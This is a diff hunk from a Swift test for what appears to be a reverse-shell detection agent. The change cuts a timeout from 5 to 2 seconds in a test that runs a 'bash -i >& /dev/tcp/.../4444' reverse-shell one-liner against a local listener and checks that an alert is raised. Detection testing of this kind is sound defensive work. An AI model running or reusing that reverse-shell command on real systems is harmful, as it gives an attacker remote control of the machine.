@@ -32,7 +32,7 @@ final class PipelineDetectionTests: XCTestCase {
         try peer.listen(port: 4444)
         let agent = try AgentHarness()
         // the outer bash connects and starts `bash -i` with the socket as stdin and stdout
-        let attack = try KernelTest.run("/usr/bin/bash", ["-c", "timeout 5 bash -i >& /dev/tcp/\(peer.peerAddress)/4444 0>&1; true"])
+        let attack = try KernelTest.run("/usr/bin/bash", ["-c", "timeout 2 bash -i >& /dev/tcp/\(peer.peerAddress)/4444 0>&1; true"])
         let benign = try KernelTest.run("/usr/bin/bash", ["-c", "bash -c true < /dev/null; true"])
         let events = try agent.waitForEvents("process_reverse_shell") { !$0.isEmpty }
         let hit = try XCTUnwrap(events.first, "bash -i on a socket is reported (\(attack.stderr))")
